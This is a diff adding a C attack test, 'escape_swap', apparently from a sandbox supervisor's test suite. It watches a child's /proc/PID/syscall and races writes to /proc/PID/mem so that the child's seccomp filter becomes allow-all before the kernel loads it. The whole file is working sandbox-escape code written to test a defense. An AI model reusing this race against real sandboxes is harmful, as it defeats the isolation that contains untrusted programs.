@@ -1,0 +1,166 @@
+/* SPDX-License-Identifier: ISC */
+/*
+ * escape_swap TRIES PROG ARG... (attack filter-swap, blind round 4): the
+ * supervisor writes a new image's filter into the process's memory and
+ * makes it call seccomp(2) on it.  Another process of the tree (here its
+ * parent: same user, same domain) watches /proc/CHILD/syscall for the
+ * injected calls, learns where the filter lies below the stack pointer,
+ * and on later runs rewrites its first instruction to "allow" through
+ * /proc/CHILD/mem before the kernel copies it: PROG (escape_answer rwx)
+ * then runs under a filter that allows everything.  Unpinned (no tracer)
+ * PROG just runs.  Stopped: PROG killed every time (exit 1).
+ */
+#include <fcntl.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+struct insn { uint16_t code; uint8_t jt, jf; uint32_t k; };
+
+static bool
+traced(void)
+{
+	char buf[4096], *p;
+	int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd == -1 ? -1 : read(fd, buf, sizeof(buf) - 1);
+
+	if (fd != -1)
+		close(fd);
+	if (n <= 0)
+		return false;
+	buf[n] = '\0';
+	return (p = strstr(buf, "TracerPid:")) != NULL && atol(p + 10) != 0;
+}
+
+/* PROG started, held until its /proc/PID/syscall is open (*sfd). */
+static pid_t
+spawn(char **argv, int *sfd)
+{
+	char path[64], x = 0;
+	int p[2];
+	pid_t c;
+
+	if (pipe(p) == -1 || (c = fork()) == -1)
+		return -1;
+	if (c == 0) {
+		close(p[1]);
+		if (read(p[0], &x, 1) != 1)
+			_exit(127);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	snprintf(path, sizeof(path), "/proc/%d/syscall", (int)c);
+	*sfd = open(path, O_RDONLY | O_CLOEXEC);
+	(void)!write(p[1], &x, 1);
+	close(p[0]);
+	close(p[1]);
+	return c;
+}
+
+/* The call child c is in: its number (-1: in none), args and sp; GONE
+ * when it has ended (then *st is its status). */
+#define GONE (-1000)
+static long
+in_call(pid_t c, int *st, int sfd, unsigned long v[7])
+{
+	char b[256];
+	ssize_t n = pread(sfd, b, sizeof(b) - 1, 0);
+
+	if (n <= 0 || waitpid(c, st, WNOHANG) == c)
+		return GONE;
+	b[n] = '\0';
+	memset(v, 0, 7 * sizeof(*v));
+	sscanf(b, "%*d %lx %lx %lx %lx %lx %lx %lx", &v[0], &v[1], &v[2],
+	    &v[3], &v[4], &v[5], &v[6]);
+	return strtol(b, NULL, 10);
+}
+
+int
+main(int argc, char **argv)
+{
+	struct insn allow = { 0x06, 0, 0, 0x7fff0000 }, cur;
+	unsigned long v[7], sp, off = 0;
+	int tries, sfd, mfd, st, hits;
+	char path[64];
+	long nr = 0;
+	pid_t c;
+
+	if (argc < 3)
+		return 2;
+	tries = atoi(argv[1]);
+	if (!traced()) {		/* unpinned: the effect itself */
+		execv(argv[2], argv + 2);
+		return 127;
+	}
+	/* where the filter lies: the seccomp call's program below the sp
+	 * of the calls before it (mmap, mseal) */
+	for (int cal = 0; cal < 10 && off == 0; cal++) {
+		if ((c = spawn(argv + 2, &sfd)) == -1)
+			return 1;
+		sp = 0;
+		for (long i = 0; i < 20000000; i++) {
+			if ((nr = in_call(c, &st, sfd, v)) == GONE)
+				break;
+			if ((nr == 9 || nr == 462) && sp == 0)
+				sp = v[6];
+			if (nr == 317 && sp != 0) {
+				off = sp - (v[2] + 16);
+				break;
+			}
+		}
+		if (nr != GONE) {
+			kill(c, SIGKILL);
+			waitpid(c, NULL, 0);
+		}
+		close(sfd);
+		if (nr == GONE && off == 0)	/* it ended at once: no exec */
+			break;
+	}
+	if (off == 0) {
+		printf("the filter was never seen\n");
+		return 1;
+	}
+	for (int k = 0; k < tries; k++) {
+		if ((c = spawn(argv + 2, &sfd)) == -1)
+			return 1;
+		sp = 0;
+		mfd = -1;
+		for (long i = 0; i < 20000000 && sp == 0; i++) {
+			if ((nr = in_call(c, &st, sfd, v)) == GONE)
+				break;
+			if (nr == 9 || nr == 462) {
+				sp = v[6];
+				snprintf(path, sizeof(path), "/proc/%d/mem",
+				    (int)c);
+				mfd = open(path, O_RDWR | O_CLOEXEC);
+			}
+		}
+		hits = 0;
+		for (long i = 0; i < 50000000 && sp != 0 && mfd != -1; i++) {
+			if (pread(mfd, &cur, sizeof(cur), sp - off) !=
+			    sizeof(cur))
+				break;
+			if (cur.code == 0x20 && cur.k == 4 &&
+			    pwrite(mfd, &allow, sizeof(allow), sp - off) ==
+			    sizeof(allow))
+				hits++;
+			if ((i & 4095) == 0 && ((nr = in_call(c, &st, sfd, v)) == GONE ||
+			    (hits > 0 && nr != 317)))
+				break;
+		}
+		if (nr != GONE)
+			waitpid(c, &st, 0);
+		close(sfd);
+		if (mfd != -1)
+			close(mfd);
+		printf("try %d: %d overwrites, status 0x%x\n", k, hits, st);
+		if (hits > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0)
+			return 0;
+	}
+	return 1;
+}
